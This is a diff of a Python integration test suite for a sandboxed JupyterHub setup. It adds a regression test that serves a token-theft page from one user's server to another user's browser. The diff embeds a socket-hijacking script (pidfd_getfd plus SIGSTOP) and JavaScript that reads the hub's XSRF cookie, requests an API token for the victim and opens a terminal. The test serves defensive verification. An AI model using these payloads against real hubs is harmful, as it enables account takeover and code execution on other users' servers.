@@ -13,12 +13,16 @@ from __future__ import annotations
 import json
 import os
 import re
+import signal
 import subprocess
 import sys
 import time
+import urllib.request
 from collections.abc import Iterator
+from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
+from typing import TYPE_CHECKING
 
 import pytest
 
@@ -34,10 +38,14 @@ from tests.integration.hub import (
     cmdline,
     descendants,
     in_user_cgroups,
+    loopback_subdomains,
     proc_ids,
     reinstall_shared_venv,
     user_cgroups,
 )
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Page
 
 EXAMPLES = REPO / "docs" / "examples"
 KERNEL = "sandbox-python"
@@ -112,7 +120,7 @@ c.Spawner.pre_spawn_hook = _extra_args
 @pytest.fixture(scope="module")
 def hub_setup() -> Iterator[HubSetup]:
     venv = reinstall_shared_venv()
-    with admin_dir() as admin:
+    with admin_dir() as admin, loopback_subdomains():
         users = {who: SystemUser(who) for who in ("alice", "bob")}
         hub: Hub | None = None
         failures: list[str] = []
@@ -291,7 +299,7 @@ def test_alice_gets_nothing_from_bobs_kernel(hub_setup: HubSetup) -> None:
     assert denied.returncode != 0 and "Permission denied" in denied.stderr, denied
     # Through the hub, alice's token opens nothing of bob's server.
     assert hub_setup.hub.error(
-        "GET", f"/user/{bob.name}/api/kernels", token=alice_client.token
+        "GET", f"{bob_client.url}/api/kernels", token=alice_client.token
     ).code in (403, 404)
     ports = {k: int(v) for k, v in runtime_file.items() if k.endswith("_port")}
     intruder = ForeignClient(
@@ -540,13 +548,44 @@ BROWSER_CELL = (
 )
 
 
+@contextmanager
+def chromium_page(failure: Path) -> Iterator[Page]:
+    """A page in headless Chromium (Debian's, driven by Playwright); a screenshot of it is
+    saved to ``failure`` if the block fails."""
+    from tests.integration.test_browser import CHROMIUM, WAIT_MS, require_browser
+
+    failure.parent.mkdir(exist_ok=True)
+    failure.unlink(missing_ok=True)
+    with require_browser()() as pw:
+        browser = pw.chromium.launch(
+            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-dev-shm-usage"]
+        )
+        try:
+            page = browser.new_page(viewport={"width": 1280, "height": 900})
+            page.set_default_timeout(WAIT_MS)
+            try:
+                yield page
+            except Exception:
+                page.screenshot(path=str(failure))
+                raise
+        finally:
+            browser.close()
+
+
+def log_in(page: Page, hub: Hub, user: SystemUser) -> None:
+    """Log in on the hub's page (dummy authenticator); the hub spawns the user's server and
+    JupyterLab opens."""
+    page.goto(f"{hub.url}/hub/login")
+    page.fill("#username_input", user.name)
+    page.fill("#password_input", "sandbox-test-password")
+    page.click("#login_submit")
+    page.wait_for_url(f"**/user/{user.name}/lab**")
+
+
 def test_a_user_in_a_browser_through_the_hub(hub_setup: HubSetup) -> None:
     """Log in on the hub's page (dummy authenticator), let it spawn the server, open a
     notebook on the sandboxed kernel in JupyterLab, run a cell; screenshot saved as
     test-artifacts/jupyterhub-sandboxed.png."""
-    from tests.integration.test_browser import CHROMIUM, WAIT_MS, require_browser
-
-    sync_playwright = require_browser()
     hub, bob = hub_setup.hub, hub_setup.users["bob"]
     hub.stop_server(bob.name)  # the login spawns it
     nb = {
@@ -557,55 +596,178 @@ def test_a_user_in_a_browser_through_the_hub(hub_setup: HubSetup) -> None:
         "nbformat": 4, "nbformat_minor": 5,
     }  # fmt: skip
     shot = REPO / "test-artifacts" / "jupyterhub-sandboxed.png"
-    failure = REPO / "test-artifacts" / "jupyterhub-failure.png"
-    shot.parent.mkdir(exist_ok=True)
-    for old in (shot, failure):
-        old.unlink(missing_ok=True)
-    with sync_playwright() as pw:
-        browser = pw.chromium.launch(
-            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-dev-shm-usage"]
-        )
-        try:
-            page = browser.new_page(viewport={"width": 1280, "height": 900})
-            page.set_default_timeout(WAIT_MS)
-            try:
-                page.goto(f"{hub.url}/hub/login")
-                page.fill("#username_input", bob.name)
-                page.fill("#password_input", "sandbox-test-password")
-                page.click("#login_submit")
-                page.wait_for_url(f"**/user/{bob.name}/lab**")
-                # The notebook, written through the user's own server (as the user).
-                client = hub_setup.client("bob")
-                client.api("PUT", "/api/contents/hub-test.ipynb",
-                           {"type": "notebook", "format": "json", "content": nb})  # fmt: skip
-                page.goto(f"{hub.url}/user/{bob.name}/lab/tree/hub-test.ipynb")
-                cell = page.locator(".jp-Notebook .jp-Cell").first
-                cell.wait_for()
-                kernel_name = page.locator(".jp-NotebookPanel-toolbar .jp-KernelName")
-                wait_for(lambda: "sandboxed" in kernel_name.inner_text(), "the kernel's name")
-                page.locator(
-                    ".jp-NotebookPanel-toolbar .jp-Notebook-ExecutionIndicator[data-status='idle']"
-                ).wait_for()
-                cell.locator(".jp-InputPrompt").click()
-                page.keyboard.press("Control+Enter")
-                out = cell.locator(".jp-OutputArea-output", has_text="SANDBOX release")
-                out.wait_for()
-                words = out.inner_text().split()
-                assert words[2] != os.uname().release, f"ran on the host kernel: {words}"
-                assert words[4] == "1000" and words[8] == "False", words
-                news = page.locator(".jp-toast-button", has_text="No")  # JupyterLab's news prompt
-                if news.count():
-                    news.first.click()
-                    news.first.wait_for(state="detached")
-                page.screenshot(path=str(shot))
-            except Exception:
-                page.screenshot(path=str(failure))
-                raise
-        finally:
-            browser.close()
+    shot.unlink(missing_ok=True)
+    with chromium_page(REPO / "test-artifacts" / "jupyterhub-failure.png") as page:
+        log_in(page, hub, bob)
+        # The notebook, written through the user's own server (as the user).
+        client = hub_setup.client("bob")
+        client.api("PUT", "/api/contents/hub-test.ipynb",
+                   {"type": "notebook", "format": "json", "content": nb})  # fmt: skip
+        page.goto(f"{client.url}/lab/tree/hub-test.ipynb")
+        cell = page.locator(".jp-Notebook .jp-Cell").first
+        cell.wait_for()
+        kernel_name = page.locator(".jp-NotebookPanel-toolbar .jp-KernelName")
+        wait_for(lambda: "sandboxed" in kernel_name.inner_text(), "the kernel's name")
+        page.locator(
+            ".jp-NotebookPanel-toolbar .jp-Notebook-ExecutionIndicator[data-status='idle']"
+        ).wait_for()
+        cell.locator(".jp-InputPrompt").click()
+        page.keyboard.press("Control+Enter")
+        out = cell.locator(".jp-OutputArea-output", has_text="SANDBOX release")
+        out.wait_for()
+        words = out.inner_text().split()
+        assert words[2] != os.uname().release, f"ran on the host kernel: {words}"
+        assert words[4] == "1000" and words[8] == "False", words
+        news = page.locator(".jp-toast-button", has_text="No")  # JupyterLab's news prompt
+        if news.count():
+            news.first.click()
+            news.first.wait_for(state="detached")
+        page.screenshot(path=str(shot))
     assert shot.stat().st_size > 10_000
     sessions = hub_setup.client("bob").api("GET", "/api/sessions")
     assert [s["kernel"]["name"] for s in sessions] == [KERNEL], sessions
+
+
+# Alice's own server, taken over by Alice herself (her terminal, or any shell of hers, is
+# her uid): she copies its listening socket (pidfd_getfd: same uid), stops the server so
+# the hub still sees it alive (its pid runs), and answers on that socket with her page.
+IMPOSTOR = r"""
+import ctypes, os, signal, socket, sys, urllib.parse
+from http.server import BaseHTTPRequestHandler, HTTPServer
+pid, page = int(sys.argv[1]), open(sys.argv[2], "rb").read()
+environ = dict(v.split("=", 1) for v in open(f"/proc/{pid}/environ").read().split("\0") if "=" in v)
+port = urllib.parse.urlparse(environ["JUPYTERHUB_SERVICE_URL"]).port
+pidfd, listener = os.pidfd_open(pid), None
+for fd in os.listdir(f"/proc/{pid}/fd"):
+    copy = ctypes.CDLL(None, use_errno=True).syscall(438, pidfd, int(fd), 0)  # pidfd_getfd
+    if copy < 0:
+        continue
+    sock = socket.socket(fileno=copy) if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:") else None
+    if sock and sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) and sock.getsockname()[1] == port:
+        listener = sock
+        break
+    os.close(copy) if sock is None else sock.close()
+assert listener, f"no listening socket on port {port} in {pid}"
+os.kill(pid, signal.SIGSTOP)
+class Page(BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(page)))
+        self.end_headers()
+        self.wfile.write(page)
+    def log_message(self, *args):
+        pass
+server = HTTPServer(("127.0.0.1", 0), Page, bind_and_activate=False)
+server.socket.close()
+server.socket = listener
+print("SERVING", flush=True)
+server.serve_forever()
+"""
+
+# Alice's page, opened by Bob: from her server's origin, the hub's _xsrf cookie (scoped to
+# /hub/, read through a frame of /hub/logo) and a token for Bob from the hub's API, asked
+# on the page's own origin and on the hub's; with a token, a terminal on Bob's server.
+TAKEOVER_PAGE = """<!doctype html><html><body><pre id="result"></pre><script>
+const HUB = %(hub)s, VICTIM = %(victim)s;
+function frame(src, name) {
+  return new Promise(done => {
+    const f = document.createElement("iframe");
+    f.name = name || "";
+    f.onload = () => done(f);
+    setTimeout(() => done(f), 20000);
+    f.src = src;
+    document.body.appendChild(f);
+  });
+}
+async function attempt(base) {
+  const seen = {};
+  try {
+    const f = await frame(base + "/hub/logo");
+    try { seen.cookies = f.contentDocument.cookie; } catch (e) { seen.cookies = "unreadable: " + e; }
+    const xsrf = (/(?:^|;\\s*)_xsrf=([^;]*)/.exec(seen.cookies) || [])[1] || "";
+    const reply = await fetch(base + "/hub/api/users/" + VICTIM + "/tokens", {
+      method: "POST", credentials: "include",
+      headers: {"Content-Type": "application/json", "X-XSRFToken": xsrf},
+      body: JSON.stringify({note: "taken by alice's page", expires_in: 600}),
+    });
+    seen.status = reply.status;
+    seen.token = (await reply.json().catch(() => ({}))).token || null;
+    if (seen.token) {
+      const shell = await fetch(base + "/user/" + VICTIM + "/api/terminals", {
+        method: "POST", headers: {Authorization: "token " + seen.token},
+      });
+      seen.terminal = shell.status;
+    }
+  } catch (e) {
+    seen.error = String(e);
+  }
+  return seen;
+}
+(async () => {
+  const result = {};
+  for (const base of ["", HUB]) result[base || "page origin"] = await attempt(base);
+  await frame(HUB + "/hub/token", "hub-page");  // refused in a frame (frame-ancestors)
+  const out = document.getElementById("result");
+  out.textContent = JSON.stringify(result);
+  out.dataset.done = "1";
+})();
+</script></body></html>
+"""
+
+
+def bobs_tokens(hub: Hub, bob: SystemUser) -> set[str]:
+    return {t["id"] for t in hub.api("GET", f"/hub/api/users/{bob.name}/tokens")["api_tokens"]}
+
+
+def test_a_page_on_alices_server_gets_no_token_for_bob(hub_setup: HubSetup) -> None:
+    """Issue 19, 1: Alice serves her own page at her server's URL (her server's listening
+    socket, copied), Bob, logged in to the hub in a real browser, opens it, and the page
+    asks the hub for a token for Bob with his cookies. Each user's server has an origin of
+    its own (``subdomain_host``), so the page reads none of the hub's cookies and gets no
+    token: Bob's tokens are unchanged and no terminal opens on his server. Hub pages
+    refuse to be framed. On the hub's origin (the recipe without subdomain_host) the page
+    got a token (201) and a terminal on Bob's server."""
+    hub, alice, bob = hub_setup.hub, hub_setup.users["alice"], hub_setup.users["bob"]
+    alice_url = spawned(hub_setup, "alice").url
+    bob_client = spawned(hub_setup, "bob")
+    page_file = alice.home / "takeover.html"
+    page_file.write_text(
+        TAKEOVER_PAGE % {"hub": json.dumps(hub.url), "victim": json.dumps(bob.name)}
+    )
+    os.chown(page_file, alice.uid, alice.gid)
+    server = server_pid(alice)
+    impostor = alice.popen([str(SHARED_VENV / "bin/python"), "-c", IMPOSTOR, str(server),
+                            str(page_file)])  # fmt: skip
+    try:
+        assert impostor.stdout is not None
+        assert impostor.stdout.readline().strip() == "SERVING", impostor.communicate(timeout=10)
+        with chromium_page(REPO / "test-artifacts" / "jupyterhub-takeover-failure.png") as page:
+            log_in(page, hub, bob)
+            before = bobs_tokens(hub, bob)
+            page.goto(f"{alice_url}/takeover.html")
+            done = page.locator("#result[data-done]")
+            done.wait_for()
+            result = json.loads(done.inner_text())
+            hub_page = page.frame(name="hub-page")
+            assert hub_page is not None
+            framed_hub_page = hub_page.url
+        assert bobs_tokens(hub, bob) == before, f"the page got a token for bob: {result}"
+        assert set(result) == {"page origin", hub.url}, result
+        for where, seen in result.items():
+            assert seen.get("status") != 201 and not seen.get("token"), (where, result)
+            assert "_xsrf" not in seen.get("cookies", ""), (where, result)
+        assert bob_client.api("GET", "/api/terminals") == []
+        # A hub page in a frame is an error page: JupyterHub's own frame-ancestors 'none'.
+        assert framed_hub_page.startswith("chrome-error:"), framed_hub_page
+        with urllib.request.urlopen(f"{hub.url}/hub/login", timeout=60) as login:
+            policy = login.headers.get("Content-Security-Policy", "")
+        assert "frame-ancestors 'none'" in policy, policy
+    finally:
+        impostor.kill()
+        impostor.wait()
+        os.kill(server, signal.SIGCONT)
+        hub.stop_server(alice.name)
 
 
 ALLOCATE = """
